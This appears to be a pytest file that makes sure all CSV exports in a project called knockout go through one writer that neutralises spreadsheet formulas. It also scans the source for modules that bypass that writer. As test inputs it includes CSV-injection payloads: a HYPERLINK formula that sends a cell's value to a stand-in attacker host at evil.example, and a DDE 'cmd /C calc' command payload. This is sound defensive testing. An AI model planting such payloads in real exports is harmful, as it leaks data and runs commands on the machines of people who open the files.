"""One CSV writer for every CSV knockout writes (issue 60 item 3): formula neutralisation in one place
(:mod:`knockout.data._csv`), and a scan of ``src/`` that fails when a module writes CSV any other way."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from knockout.data._csv import csv_line, dicts_text, neutralise, rows_text, safe_cell

SRC = Path(__file__).resolve().parents[1] / "src" / "knockout"
THE_WRITER = SRC / "data" / "_csv.py"
#: what writes CSV: the csv module's writers, pandas' and pyarrow's
_WRITERS = {"writer", "DictWriter"}
_ANY_WRITERS = {"to_csv", "write_csv", "CSVWriter"}

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _bypasses(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    rel = path.relative_to(SRC) if SRC in path.parents else path.name
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            if node.attr in _ANY_WRITERS or (node.attr in _WRITERS and isinstance(node.value, ast.Name)
                                             and node.value.id == "csv"):
                found.append(f"{rel}:{node.lineno}: {ast.unparse(node)}")
        elif isinstance(node, ast.ImportFrom) and node.module in ("csv", "pyarrow.csv"):
            found += [f"{rel}:{node.lineno}: from {node.module} import {a.name}"
                      for a in node.names if a.name in _WRITERS | _ANY_WRITERS]
        elif isinstance(node, ast.Name) and node.id in _ANY_WRITERS:
            found.append(f"{rel}:{node.lineno}: {node.id}")
    return found


def test_every_csv_writer_in_src_goes_through_the_one_writer() -> None:
    assert THE_WRITER.is_file()
    bypass = [b for p in sorted(SRC.rglob("*.py")) if p != THE_WRITER for b in _bypasses(p)]
    assert bypass == [], "CSV written outside knockout.data._csv (use its Writer, write_dicts or dicts_text):\n" \
        + "\n".join(bypass)


def test_the_scan_finds_a_bypass(tmp_path: Path) -> None:
    p = tmp_path / "m.py"
    for code in ("import csv\nw = csv.writer(f)\n", "import csv\nw = csv.DictWriter(f, ['a'])\n",
                 "from csv import DictWriter\n", "df.to_csv('x.csv')\n",
                 "import pyarrow.csv\npyarrow.csv.write_csv(t, f)\n"):
        p.write_text(code)
        assert _bypasses(p), code


@pytest.mark.parametrize("cell", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                  " =1", "\u00a0=1", "\uff1d1+1", "\u200b@x"])
def test_formula_cells_are_neutralised_by_the_writer(cell: str) -> None:
    row = next(csv.reader(io.StringIO(rows_text([[cell, 1]]))))
    assert row == ["'" + cell, "1"]
    assert next(csv.reader(io.StringIO(dicts_text([{"a": cell}])))) == ["a"]


@pytest.mark.parametrize("x", [-1.5, 2, 1e-3, 0, -0.0])
def test_numbers_are_numbers_and_texts_are_texts(x: float) -> None:
    from knockout.data._csv import Number

    assert safe_cell(x) == x and safe_cell(Number(x)) == format(x, "g")
    assert safe_cell(None) == "" and safe_cell(True) is True
    assert safe_cell(format(x, "g")) == ("'" if format(x, "g").startswith("-") else "") + format(x, "g")
    with pytest.raises(TypeError):
        Number("=1+1")  # type: ignore[arg-type]


def test_a_bare_cr_is_quoted_whatever_the_line_end() -> None:
    assert csv_line(["zz\rs_victim", "1"]) == '"zz\rs_victim",1\n'
    assert neutralise("plain") == "plain"


# -- each writer named in the issue, with an examinee that is a formula ----------------------------------------


def test_calibrate_output_csv_neutralises_a_formula_examinee(tmp_path: Path) -> None:
    from knockout.cli._calibrate import _write

    out = tmp_path / "cal.csv"
    _write(out, [{"answer_id": "a1", "question_id": "q1", "examinee": ATTACK, "max_points": 5, "expert_score": 3,
                  "score": 2.5}])
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[1][2] == "'" + ATTACK and rows[1][3:] == ["5", "3", "2.5"]


def test_annotations_export_csv_neutralises_formula_cells() -> None:
    from knockout.annotations._export import format_rows

    text = format_rows([{"exam": "e", "question": "q1", "examinee": ATTACK, "grader": "@bob", "grade": 2,
                         "comment": "-1+1"}], "csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["e", "q1", "'" + ATTACK, "'@bob", "2", "'-1+1"]


def test_the_sciex_leaderboard_csv_neutralises_a_formula_examinee() -> None:
    from knockout.sciex import leaderboard_csv

    board = {"judges": [{"key": "j", "label": "=cmd()"}], "students": None, "examinees": [
        {"rank": 1, "examinee": ATTACK, "ranked_by": "expert", "expert": {"percent": 50.0, "german": "3.0"},
         "judges": {"j": {"percent": 40.0, "german": "4.0"}}}]}
    rows = list(csv.reader(io.StringIO(leaderboard_csv(board))))
    assert rows[1][1] == "'" + ATTACK and "'=cmd()" in rows[1]
